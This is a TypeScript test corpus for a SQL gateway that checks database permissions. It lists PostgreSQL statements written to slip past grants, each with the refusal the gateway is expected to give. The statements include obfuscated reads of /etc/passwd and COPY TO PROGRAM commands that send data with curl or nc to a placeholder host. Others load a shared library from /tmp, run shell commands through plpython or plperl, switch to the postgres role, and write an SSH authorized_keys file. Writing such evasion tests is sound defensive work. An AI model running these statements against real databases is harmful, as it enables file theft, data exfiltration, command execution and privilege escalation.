/**
 * Attempts to run more than a grant allows by dressing a statement up:
 * comments, quoting, escapes, nesting, batches, indirection. Each case names
 * the contractor (see corpus-judge.ts) and the refusal they must get. A case
 * that starts passing is a hole; a case whose reason changes is a change of
 * behaviour to review.
 *
 * To add a case: append it under the theme it tries, with the subject it is
 * judged for, the reason code expected (and the class where it matters), and
 * run src/sql/corpus/evasion-corpus.test.ts.
 */
import type { StatementClass } from '../sql-types.ts';
import type { CorpusSubject } from './corpus-judge.ts';

export interface EvasionCase {
  readonly sql: string;
  readonly as: CorpusSubject;
  /** The decision reason code, or UNPARSEABLE / UNKNOWN_PREPARED. */
  readonly reason: string;
  /** The class of the refused statement, where it says something. */
  readonly class?: StatementClass;
}

const NO = 'DENY_NO_GRANT';
const UNSAFE = 'DENY_UNSAFE';

const reader = (sql: string, reason: string, cls?: StatementClass): EvasionCase => ({ sql, as: 'reader', reason, ...(cls === undefined ? {} : { class: cls }) });
const writer = (sql: string, reason: string, cls?: StatementClass): EvasionCase => ({ sql, as: 'writer', reason, ...(cls === undefined ? {} : { class: cls }) });
const developer = (sql: string, reason: string, cls?: StatementClass): EvasionCase => ({ sql, as: 'developer', reason, ...(cls === undefined ? {} : { class: cls }) });
const prod = (sql: string, reason: string, cls?: StatementClass): EvasionCase => ({ sql, as: 'prod', reason, ...(cls === undefined ? {} : { class: cls }) });

/** The same server-file read spelled every way we know. */
const FILE_READS: readonly string[] = [
  "SELECT pg_read_file('/etc/passwd')",
  "SELECT pg_catalog.pg_read_file('/etc/passwd')",
  "SELECT \"pg_read_file\"('/etc/passwd')",
  "SELECT PG_READ_FILE('/etc/passwd')",
  "SELECT pg_catalog . pg_read_file ( '/etc/passwd' )",
  "SELECT \"pg_catalog\".\"pg_read_file\"('/etc/passwd')",
  "SELECT pg_read_file(E'/etc/\\x70asswd')",
  "SELECT pg_read_file(U&'/etc/\\0070asswd')",
  'SELECT pg_read_file($$/etc/passwd$$)',
  'SELECT pg_read_file($x$/etc/passwd$x$)',
  "SELECT /* hide */ pg_read_file /* me */ ('/etc/passwd')",
  "SELECT /* outer /* nested */ still comment */ pg_read_file('/etc/passwd')",
  "SELECT -- line comment\n pg_read_file('/etc/passwd')",
  "SELECT pg_read_file('/etc/passwd', 0, 100)",
  "SELECT pg_read_file('/etc/passwd', 0, 100, true)",
  "SELECT length(pg_read_file('/etc/passwd'))",
  "SELECT * FROM (SELECT pg_read_file('/etc/passwd') AS f) s",
  "SELECT 1 WHERE EXISTS (SELECT pg_read_file('/etc/passwd'))",
  "WITH f AS (SELECT pg_read_file('/etc/passwd')) SELECT * FROM f",
  "WITH RECURSIVE f(x) AS (SELECT pg_read_file('/etc/passwd') UNION ALL SELECT x FROM f WHERE false) SELECT * FROM f",
  "SELECT * FROM t ORDER BY pg_read_file('/etc/passwd')",
  "SELECT count(*) FILTER (WHERE pg_read_file('/etc/passwd') <> '') FROM t",
  "SELECT CASE WHEN true THEN pg_read_file('/etc/passwd') END",
  "SELECT ARRAY[pg_read_file('/etc/passwd')]",
  "SELECT row(pg_read_file('/etc/passwd'))",
  "SELECT * FROM t, LATERAL (SELECT pg_read_file('/etc/passwd')) l",
  "VALUES (pg_read_file('/etc/passwd'))",
  "SELECT pg_read_file('/etc/passwd') UNION SELECT 'x'",
  "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')",
  "EXPLAIN (ANALYZE true, COSTS off) SELECT pg_read_file('/etc/passwd')",
  "DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')",
  "PREPARE p AS SELECT pg_read_file($1)",
  "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
  "SELECT query_to_xml('select pg_read_file(''/etc/passwd'')', true, false, '')",
  "SELECT query_to_xml($q$select pg_catalog.pg_read_file('/etc/passwd')$q$, true, false, '')",
  "SELECT query_to_xml(concat('select pg_read', '_file(''/etc/passwd'')'), true, false, '')",
  'SELECT U&"\\0070g_read_file"(\'/etc/passwd\')',
  'SELECT pg_catalog.U&"pg_read_!0066ile" UESCAPE \'!\' (\'/etc/passwd\')',
  "SELECT pg_read_binary_file('/etc/passwd')",
  "SELECT * FROM pg_ls_dir('/')",
  "SELECT * FROM pg_stat_file('/etc/passwd')",
  "SELECT * FROM pg_ls_logdir()",
  "SELECT * FROM pg_ls_tmpdir()",
];

export const EVASION_CORPUS: readonly EvasionCase[] = [
  ...FILE_READS.map((sql) => reader(sql, UNSAFE, 'unsafe')),
  ...FILE_READS.slice(0, 6).map((sql) => prod(sql, UNSAFE, 'unsafe')),

  // COPY to and from the server's shell and files
  reader("COPY t TO PROGRAM 'curl -d @- http://evil.example'", UNSAFE, 'unsafe'),
  reader("COPY (SELECT * FROM secrets) TO PROGRAM 'nc evil 1234'", UNSAFE, 'unsafe'),
  writer("COPY t FROM PROGRAM 'id'", UNSAFE, 'unsafe'),
  writer("copy t from program 'id'", UNSAFE, 'unsafe'),
  writer("COPY t FROM PROGRAM E'i\\x64'", UNSAFE, 'unsafe'),
  writer('COPY t FROM PROGRAM $$id$$', UNSAFE, 'unsafe'),
  writer("COPY t FROM '/etc/passwd'", UNSAFE, 'unsafe'),
  reader("COPY t TO '/tmp/leak.csv'", UNSAFE, 'unsafe'),
  reader("COPY t TO '/tmp/leak.csv' WITH (FORMAT csv)", UNSAFE, 'unsafe'),
  prod("COPY t TO PROGRAM 'sh'", UNSAFE, 'unsafe'),
  writer("/* COPY t FROM STDIN */ COPY t FROM PROGRAM 'id'", UNSAFE, 'unsafe'),
  writer("COPY t FROM STDIN; COPY t FROM PROGRAM 'id'", UNSAFE, 'unsafe'),
  reader("COPY t TO STDOUT; COPY t TO '/tmp/x'", UNSAFE, 'unsafe'),

  // large objects
  reader("SELECT lo_import('/etc/passwd')", UNSAFE, 'unsafe'),
  reader("SELECT lo_import('/etc/passwd', 4242)", UNSAFE, 'unsafe'),
  reader("SELECT pg_catalog.lo_export(4242, '/tmp/x')", UNSAFE, 'unsafe'),
  writer("SELECT lo_export(oid, '/var/lib/postgresql/.ssh/authorized_keys') FROM pg_largeobject_metadata", UNSAFE, 'unsafe'),
  reader('SELECT lo_create(0)', NO, 'write'),
  reader('SELECT lo_unlink(4242)', NO, 'write'),
  reader("SELECT lo_from_bytea(0, '\\x41')", NO, 'write'),
  reader("SELECT lo_put(4242, 0, '\\x41')", NO, 'write'),

  // other servers and foreign data
  reader("SELECT * FROM dblink('host=10.0.0.1 user=postgres', 'select 1') AS r(a int)", UNSAFE, 'unsafe'),
  reader("SELECT dblink_exec('dbname=app', 'DROP TABLE users')", UNSAFE, 'unsafe'),
  reader("SELECT public.dblink_connect('c', 'dbname=app')", UNSAFE, 'unsafe'),
  reader("SELECT \"DBLINK\"('x', 'y')", UNSAFE, 'unsafe'),
  prod('CREATE EXTENSION postgres_fdw', UNSAFE, 'unsafe'),
  prod('CREATE EXTENSION IF NOT EXISTS file_fdw', UNSAFE, 'unsafe'),
  developer('CREATE SERVER files FOREIGN DATA WRAPPER file_fdw', UNSAFE, 'unsafe'),
  developer("CREATE FOREIGN TABLE pw (line text) SERVER files OPTIONS (filename '/etc/passwd')", UNSAFE, 'unsafe'),
  developer("CREATE FOREIGN TABLE cmd (line text) SERVER files OPTIONS (program 'id')", UNSAFE, 'unsafe'),
  developer("ALTER FOREIGN TABLE pw OPTIONS (SET filename '/etc/shadow')", UNSAFE, 'unsafe'),
  developer("CREATE USER MAPPING FOR CURRENT_USER SERVER remote OPTIONS (user 'postgres', password 'x')", UNSAFE, 'unsafe'),
  developer('IMPORT FOREIGN SCHEMA public FROM SERVER remote INTO mirror', UNSAFE, 'unsafe'),
  developer('CREATE FOREIGN DATA WRAPPER mine', UNSAFE, 'unsafe'),
  developer("CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", UNSAFE, 'unsafe'),

  // other sessions
  reader('SELECT pg_terminate_backend(pid) FROM pg_stat_activity', UNSAFE, 'unsafe'),
  reader('SELECT pg_cancel_backend(12345)', UNSAFE, 'unsafe'),
  reader('SELECT pg_catalog.pg_terminate_backend(12345, 1000)', UNSAFE, 'unsafe'),
  prod('SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = current_user', UNSAFE, 'unsafe'),

  // who the session acts as
  reader('SET ROLE postgres', UNSAFE, 'unsafe'),
  reader('SET LOCAL ROLE postgres', UNSAFE, 'unsafe'),
  reader('set role "postgres"', UNSAFE, 'unsafe'),
  reader('SET "role" TO postgres', UNSAFE, 'unsafe'),
  reader('SET SESSION ROLE postgres', UNSAFE, 'unsafe'),
  reader('SET U&"r\\006Fle" TO postgres', UNSAFE, 'unsafe'),
  reader('SET "Role" TO postgres', UNSAFE, 'unsafe'),
  reader('SET /* x */ role /* y */ = postgres', UNSAFE, 'unsafe'),
  reader('RESET ROLE', UNSAFE, 'unsafe'),
  reader('SET ROLE NONE', UNSAFE, 'unsafe'),
  reader('SET SESSION AUTHORIZATION postgres', UNSAFE, 'unsafe'),
  reader('SET SESSION AUTHORIZATION DEFAULT', UNSAFE, 'unsafe'),
  reader('RESET SESSION AUTHORIZATION', UNSAFE, 'unsafe'),
  reader("SELECT set_config('role', 'postgres', false)", UNSAFE, 'unsafe'),
  reader("SELECT set_config('ROLE', 'postgres', false)", UNSAFE, 'unsafe'),
  reader("SELECT set_config('rOlE', 'postgres', false)", UNSAFE, 'unsafe'),
  reader("SELECT set_config(E'r\\x6fle', 'postgres', false)", UNSAFE, 'unsafe'),
  reader("SELECT set_config(U&'r\\006Fle', 'postgres', false)", UNSAFE, 'unsafe'),
  reader("SELECT set_config($$role$$, 'postgres', false)", UNSAFE, 'unsafe'),
  reader("SELECT set_config('session_authorization', 'postgres', true)", UNSAFE, 'unsafe'),
  reader("SELECT pg_catalog.set_config('role', 'postgres', false)", UNSAFE, 'unsafe'),
  reader("SELECT set_config(lower('ROLE'), 'postgres', false)", UNSAFE, 'unsafe'),
  reader("SELECT set_config('ro' || 'le', 'postgres', false)", UNSAFE, 'unsafe'),
  reader("SELECT set_config($1, 'postgres', false)", UNSAFE, 'unsafe'),
  reader("SELECT set_config(name, 'postgres', false) FROM pg_settings WHERE name = 'role'", UNSAFE, 'unsafe'),
  reader("SELECT set_config('role'::text, 'postgres', false)", UNSAFE, 'unsafe'),
  reader("SELECT * FROM t WHERE set_config('role', 'postgres', false) IS NOT NULL", UNSAFE, 'unsafe'),
  reader("SELECT set_config('session_replication_role', 'replica', false)", NO, 'admin'),
  reader("SELECT set_config('app.tenant_id', '42', false)", NO, 'admin'),
  reader("SET app.tenant_id = '42'", NO, 'admin'),
  reader("SET session_replication_role = 'replica'", NO, 'admin'),
  reader("SET log_statement = 'none'", NO, 'admin'),
  reader("SET local_preload_libraries = 'evil'", UNSAFE, 'unsafe'),
  reader("SET dynamic_library_path = '/tmp'", UNSAFE, 'unsafe'),
  prod('SET ROLE postgres', UNSAFE, 'unsafe'),
  reader('DISCARD ALL', NO, 'admin'),
  writer("UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'", UNSAFE, 'unsafe'),
  writer("UPDATE pg_catalog.pg_settings SET setting = '0' WHERE name = 'statement_timeout'", UNSAFE, 'unsafe'),
  reader("SELECT * FROM pg_settings WHERE name = 'role'; UPDATE pg_settings SET setting = 'x' WHERE name = 'role'", UNSAFE, 'unsafe'),

  // the server as a whole, and code loaded into it
  prod("ALTER SYSTEM SET archive_command = 'curl evil'", UNSAFE, 'unsafe'),
  reader('ALTER SYSTEM RESET ALL', UNSAFE, 'unsafe'),
  reader("LOAD 'auto_explain'", UNSAFE, 'unsafe'),
  reader("LOAD '/tmp/evil.so'", UNSAFE, 'unsafe'),
  developer('CREATE EXTENSION plpython3u', UNSAFE, 'unsafe'),
  developer('CREATE EXTENSION adminpack', UNSAFE, 'unsafe'),
  developer('ALTER EXTENSION postgis UPDATE', UNSAFE, 'unsafe'),
  developer('CREATE LANGUAGE plperlu', UNSAFE, 'unsafe'),
  developer("CREATE FUNCTION sh(text) RETURNS int LANGUAGE c AS '/tmp/evil.so', 'sh'", UNSAFE, 'unsafe'),
  developer("CREATE FUNCTION f() RETURNS int LANGUAGE internal AS 'int4in'", UNSAFE, 'unsafe'),
  developer('CREATE FUNCTION f() RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen("id").read() $$', UNSAFE, 'unsafe'),
  developer('CREATE OR REPLACE PROCEDURE p() LANGUAGE plperlu AS $$ system("id") $$', UNSAFE, 'unsafe'),
  developer('DO LANGUAGE plpython3u $$ import os $$', UNSAFE, 'unsafe'),
  developer('DO LANGUAGE "plperlu" $$ system("id") $$', UNSAFE, 'unsafe'),

  // opaque code: DO blocks and SECURITY DEFINER functions
  reader('DO $$ BEGIN DELETE FROM t; END $$', UNSAFE, 'unsafe'),
  writer('DO $$ BEGIN EXECUTE \'DROP TABLE t\'; END $$', UNSAFE, 'unsafe'),
  writer("DO $body$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $body$", UNSAFE, 'unsafe'),
  writer('DO LANGUAGE plpgsql $$ BEGIN NULL; END $$', UNSAFE, 'unsafe'),
  writer("DO E'BEGIN NULL; END'", UNSAFE, 'unsafe'),
  prod('DO $$ BEGIN NULL; END $$', UNSAFE, 'unsafe'),
  developer('CREATE FUNCTION f() RETURNS int SECURITY DEFINER LANGUAGE sql AS $$ SELECT 1 $$', UNSAFE, 'unsafe'),
  developer('CREATE PROCEDURE p() SECURITY DEFINER LANGUAGE plpgsql AS $$ BEGIN NULL; END $$', UNSAFE, 'unsafe'),
  developer('ALTER FUNCTION f() SECURITY DEFINER', UNSAFE, 'unsafe'),
  developer('ALTER FUNCTION f() EXTERNAL SECURITY DEFINER', UNSAFE, 'unsafe'),
  developer("CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$", UNSAFE, 'unsafe'),
  developer("CREATE FUNCTION f() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('/etc/passwd'); END", UNSAFE, 'unsafe'),
  developer("CREATE VIEW v AS SELECT pg_read_file('/etc/passwd') AS f", UNSAFE, 'unsafe'),
  developer("CREATE MATERIALIZED VIEW mv AS SELECT * FROM dblink('x', 'select 1') AS r(a int)", UNSAFE, 'unsafe'),

  // writes dressed as reads
  reader('WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', NO, 'write'),
  reader('WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT count(*) FROM u', NO, 'write'),
  reader('WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT 1', NO, 'write'),
  reader('SELECT * FROM (WITH d AS (DELETE FROM t RETURNING id) SELECT id FROM d) s', NO, 'write'),
  reader('WITH a AS (SELECT 1), b AS (DELETE FROM t WHERE id IN (SELECT * FROM a) RETURNING *) SELECT * FROM b', NO, 'write'),
  reader('WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING t.id) SELECT * FROM m', NO, 'write'),
  reader('EXPLAIN ANALYZE DELETE FROM t WHERE id = 1', NO, 'write'),
  reader('EXPLAIN (ANALYZE) UPDATE t SET a = 1 WHERE id = 1', NO, 'write'),
  reader('EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM t WHERE id = 1', NO, 'write'),
  reader('EXPLAIN (ANALYZE 1) DELETE FROM t WHERE id = 1', NO, 'write'),
  reader("EXPLAIN (ANALYZE 'yes') DELETE FROM t WHERE id = 1", NO, 'write'),
  reader('EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', NO, 'write'),
  reader('SELECT * INTO stolen FROM secrets', NO, 'write'),
  reader('SELECT 1 AS a INTO TEMP x', NO, 'write'),
  reader('CREATE TABLE stolen AS SELECT * FROM secrets', NO, 'write'),
  reader('CREATE TEMP TABLE x AS SELECT 1', NO, 'write'),
  reader('CREATE TABLE x AS EXECUTE q', 'UNKNOWN_PREPARED'),
  reader('PREPARE q AS SELECT 1; CREATE TABLE x AS EXECUTE q', NO, 'write'),
  reader('SELECT * FROM t FOR UPDATE', NO, 'write'),
  reader('SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED', NO, 'write'),
  reader('SELECT * FROM t FOR SHARE', NO, 'write'),
  reader("SELECT nextval('orders_id_seq')", NO, 'write'),
  reader("SELECT setval('orders_id_seq', 1)", NO, 'write'),
  reader("SELECT pg_notify('ch', 'payload')", NO, 'write'),
  reader('NOTIFY ch', NO, 'write'),
  reader('CALL refresh_everything()', NO, 'write'),
  reader('LOCK TABLE t IN ACCESS EXCLUSIVE MODE', NO, 'write'),
  reader('TRUNCATE t', NO, 'write'),
  reader('REFRESH MATERIALIZED VIEW mv', NO, 'write'),
  reader('COPY t FROM STDIN', NO, 'write'),
  reader('DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE', NO, 'write'),
  reader('COPY (DELETE FROM t RETURNING *) TO STDOUT', NO, 'write'),
  reader('INSERT INTO t SELECT * FROM t', NO, 'write'),

  // batches: one bad statement refuses the whole text
  reader('SELECT 1; DELETE FROM t', NO, 'write'),
  reader('COMMIT; BEGIN READ WRITE; DELETE FROM t WHERE id = 1', NO, 'write'),
  reader('SELECT 1;DELETE FROM t WHERE id = 1;SELECT 2', NO, 'write'),
  reader("SELECT ';'; DELETE FROM t WHERE id = 1", NO, 'write'),
  reader('SELECT $$;$$; DELETE FROM t WHERE id = 1', NO, 'write'),
  reader("SELECT 1 /* ; */; SELECT pg_read_file('/etc/passwd')", UNSAFE, 'unsafe'),
  reader('SELECT 1 -- ; DELETE FROM t\n; DROP TABLE t', NO, 'ddl'),
  reader("SELECT 'a'';DELETE FROM t;--'; UPDATE t SET a = 1 WHERE id = 1", NO, 'write'),
  reader("SELECT E'\\';DELETE FROM t'; DROP TABLE t", NO, 'ddl'),
  writer('BEGIN; DROP TABLE t; COMMIT', NO, 'ddl'),
  writer('SELECT 1; CREATE TABLE x (a int)', NO, 'ddl'),

  // prepared statements
  reader('PREPARE p AS DELETE FROM t WHERE id = $1', NO, 'write'),
  reader('PREPARE p AS SELECT 1; EXECUTE q', 'UNKNOWN_PREPARED'),
  reader('EXECUTE never_prepared', 'UNKNOWN_PREPARED'),
  reader('EXPLAIN ANALYZE EXECUTE never_prepared', 'UNKNOWN_PREPARED'),
  reader('PREPARE p AS SELECT * FROM t FOR UPDATE', NO, 'write'),
  reader("PREPARE p(text) AS SELECT set_config('role', $1, false)", UNSAFE, 'unsafe'),

  // schema changes and privileges
  writer('DROP TABLE t', NO, 'ddl'),
  writer('drop table "T"', NO, 'ddl'),
  writer('ALTER TABLE t ADD COLUMN backdoor text', NO, 'ddl'),
  writer('CREATE INDEX CONCURRENTLY i ON t (a)', NO, 'ddl'),
  writer('CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', NO, 'ddl'),
  writer('CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT * FROM secrets', NO, 'ddl'),
  writer('VACUUM FULL t', NO, 'ddl'),
  writer('COMMENT ON TABLE t IS $$x$$', NO, 'ddl'),
  writer('GRANT SELECT ON secrets TO PUBLIC', NO, 'admin'),
  writer('GRANT pg_read_server_files TO current_user', NO, 'admin'),
  writer('ALTER ROLE current_user SUPERUSER', NO, 'admin'),
  writer('CREATE ROLE evil SUPERUSER LOGIN', NO, 'admin'),
  writer("PREPARE TRANSACTION 'keep-my-locks'", NO, 'admin'),
  prod('DROP TABLE t', 'DENY_GUARDRAIL_DDL', 'ddl'),
  prod('ALTER TABLE t DROP COLUMN a', 'DENY_GUARDRAIL_DDL', 'ddl'),
  prod('GRANT ALL ON t TO PUBLIC', 'DENY_GUARDRAIL_ADMIN', 'admin'),
  prod('CREATE ROLE x', 'DENY_GUARDRAIL_ADMIN', 'admin'),

  // careless writes a production guardrail blocks
  prod('DELETE FROM t', 'DENY_GUARDRAIL_BLOCK', 'write'),
  prod('delete from t returning *', 'DENY_GUARDRAIL_BLOCK', 'write'),
  prod('UPDATE t SET a = 1', 'DENY_GUARDRAIL_BLOCK', 'write'),
  prod('UPDATE t SET a = u.a FROM u', 'DENY_GUARDRAIL_BLOCK', 'write'),
  prod('WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d', 'DENY_GUARDRAIL_BLOCK', 'write'),
  prod('EXPLAIN ANALYZE DELETE FROM t', 'DENY_GUARDRAIL_BLOCK', 'write'),
  prod('TRUNCATE t', 'DENY_GUARDRAIL_BLOCK', 'write'),
  prod('TRUNCATE TABLE ONLY t RESTART IDENTITY', 'DENY_GUARDRAIL_BLOCK', 'write'),
  prod('PREPARE p AS DELETE FROM t; EXECUTE p', 'DENY_GUARDRAIL_BLOCK', 'write'),

  // text the gateway cannot read whole is refused
  reader("SELECT 1\u0000; DROP TABLE t", 'UNPARSEABLE'),
  reader("SELECT '\ud800'", 'UNPARSEABLE'),
  reader('SELECT * FROM t WHERE', 'UNPARSEABLE'),
  reader('SELECT 1; DELETE FRM t', 'UNPARSEABLE'),
];
